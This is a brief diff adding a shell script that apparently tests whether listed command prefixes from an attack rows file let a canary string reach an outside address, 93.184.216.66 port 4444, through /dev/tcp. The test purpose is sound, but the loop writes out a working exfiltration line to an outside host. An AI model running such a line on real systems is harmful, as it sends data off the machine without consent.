@@ -1,0 +1,6 @@
+#!/bin/sh
+: > "$ARENA/ws/ran"
+while IFS='	' read -r row command; do
+  echo "$row" >> tried
+  timeout 1 sh -c "$command bash -c 'echo $CANARY-$row- > /dev/tcp/93.184.216.66/4444'"
+done < .attack/rows.tsv
